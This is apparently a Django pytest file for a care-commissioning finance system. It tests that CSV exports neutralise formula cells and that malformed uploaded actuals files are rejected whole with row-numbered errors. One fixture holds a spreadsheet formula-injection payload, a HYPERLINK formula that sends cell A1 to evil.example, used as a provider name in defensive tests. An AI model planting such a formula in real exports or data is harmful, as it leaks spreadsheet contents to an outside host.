"""Files in and out of finance: every CSV download neutralises a cell a spreadsheet would run as a
formula, and a malformed actuals file is refused whole on the upload page with row-numbered
reasons, never a server error, with nothing stored."""
import csv
import io
from datetime import date

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from commissioning.finance import services
from commissioning.finance.models import ActualsFile, ProviderWeek, Visit
from commissioning.providers.tests.factories import ProviderFactory

from . import factories
from .test_payments import HEADER, csv_for, week_start

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'


@pytest.fixture
def evil_run(db):
    """A payment run that paid an invoice of a provider whose name is a spreadsheet formula."""
    invoice = factories.PaidInvoiceFactory(provider=ProviderFactory(name=EVIL), period_start=date(2026, 10, 26))
    return invoice.payment_run


def cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode())) for cell in row]


def assert_neutralised(response):
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    found = cells(response)
    assert "'" + EVIL in found
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in found)


def test_the_remittance_csv_neutralises_a_provider_name_that_is_a_formula(client, evil_run, finance_officer):
    client.force_login(finance_officer)
    assert_neutralised(client.get(reverse("finance:run_csv", args=[evil_run.pk])))


def test_the_providers_remittance_download_neutralises_its_own_formula_name(client, evil_run, make_user):
    from commissioning.accounts.roles import Role

    client.force_login(make_user(Role.PROVIDER_USER, provider=evil_run.invoices.get().provider))
    assert_neutralised(client.get(reverse("portal:remittance", args=[evil_run.pk]) + "?format=csv"))


def test_the_spend_csv_neutralises_a_provider_name_that_is_a_formula(client, evil_run, finance_officer):
    client.force_login(finance_officer)
    assert_neutralised(client.get(reverse("finance:spend") + "?year=2026&format=csv"))


# Malformed actuals files ---------------------------------------------------------------------------

def _good_row(placed, **changes):
    monday = week_start()
    row = {"file_reference": "ECM-BAD", "provider": placed["provider"].name,
           "agreement": placed["agreements"][0].reference, "carer": "C1", "scheduled_start": f"{monday}T08:00",
           "scheduled_end": f"{monday}T08:30", "check_in": f"{monday}T08:00", "check_out": f"{monday}T08:30",
           "method": "call", "exception_code": ""} | changes
    return ",".join(row.values())


def _file(placed, *rows) -> bytes:
    return (HEADER + "\n".join(rows) + "\n").encode()


MALFORMED = {
    "a NUL byte": (lambda p: _file(p, _good_row(p), _good_row(p, carer="C\x002")), "Row 3: the file has a NUL byte"),
    "the wrong encoding": (lambda p: _file(p, _good_row(p)).replace(b"C1", "Zoë".encode("cp1252"), 1),
                           "Row 2: the file is not UTF-8 text"),
    "binary content": (lambda p: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)),
                       "Row 3: the file has a NUL byte, so it is a binary file"),
    "control characters": (lambda p: HEADER.encode() + bytes(range(1, 9)) * 4 + b"\n",
                           "Row 2: the file has control characters"),
    "a row with fewer cells": (lambda p: _file(p, _good_row(p), _good_row(p).rsplit(",", 3)[0]),
                               "Row 3: has 7 cells but the header has 10"),
    "a row with more cells": (lambda p: _file(p, _good_row(p) + ",extra,more"),
                              "Row 2: has 12 cells but the header has 10"),
    "a date out of range": (lambda p: _file(p, _good_row(p, scheduled_start="1066-10-14T08:00")),
                            "Row 2: scheduled_start &#x27;1066-10-14T08:00&#x27; is out of range"),
    "a date far in the future": (lambda p: _file(p, _good_row(p), _good_row(p, check_out="9999-12-31T23:59")),
                                 "Row 3: check_out &#x27;9999-12-31T23:59&#x27; is out of range"),
    "a carer longer than the database holds": (lambda p: _file(p, _good_row(p, carer="C" * 51)),
                                               "Row 2: carer is longer than 50 characters"),
    "a file reference longer than the database holds": (lambda p: _file(p, _good_row(p, file_reference="R" * 101)),
                                                        "Row 2: the file reference is longer than 100 characters"),
    "an exception code longer than the database holds": (
        lambda p: _file(p, _good_row(p, method="manual", exception_code="M" * 21)),
        "Row 2: exception_code is longer than 20 characters"),
}


@pytest.mark.parametrize("kind", list(MALFORMED))
def test_a_malformed_actuals_file_is_refused_whole_with_row_numbered_reasons(kind, client, placed):
    make, reason = MALFORMED[kind]
    client.force_login(placed["user"])
    response = client.post(reverse("portal:actuals"), {"file": SimpleUploadedFile("week.csv", make(placed))})
    page = response.content.decode()
    assert response.status_code == 200
    assert "The file was not imported" in page and reason in page
    assert not ActualsFile.objects.exists() and not Visit.objects.exists() and not ProviderWeek.objects.exists()


def test_visits_checked_in_and_out_more_than_a_day_apart_are_refused(client, placed):
    monday = week_start()
    stretched = _good_row(placed, check_out=f"{date.fromordinal(monday.toordinal() + 3)}T08:30")
    client.force_login(placed["user"])
    page = client.post(reverse("portal:actuals"),
                       {"file": SimpleUploadedFile("week.csv", _file(placed, stretched))}).content.decode()
    assert "Row 2: the check-in and check-out are more than 24 hours apart" in page
    assert not Visit.objects.exists()


def test_a_visit_scheduled_for_more_than_a_day_is_refused(client, placed):
    monday = week_start()
    row = _good_row(placed, scheduled_end=f"{date.fromordinal(monday.toordinal() + 2)}T08:30")
    client.force_login(placed["user"])
    page = client.post(reverse("portal:actuals"),
                       {"file": SimpleUploadedFile("week.csv", _file(placed, row))}).content.decode()
    assert "Row 2: the visit is scheduled for more than 24 hours" in page
    assert not Visit.objects.exists()


def test_a_good_file_that_fails_while_importing_leaves_nothing_behind(placed, monkeypatch):
    def fail(**kwargs):
        raise RuntimeError("the reconciliation stopped")

    monkeypatch.setattr("commissioning.finance.services.actuals.reconcile_weeks", fail)
    with pytest.raises(RuntimeError):
        services.actuals_import(provider=placed["provider"], by=placed["user"], data=csv_for(placed),
                                file_name="week.csv")
    assert not ActualsFile.objects.exists() and not Visit.objects.exists()
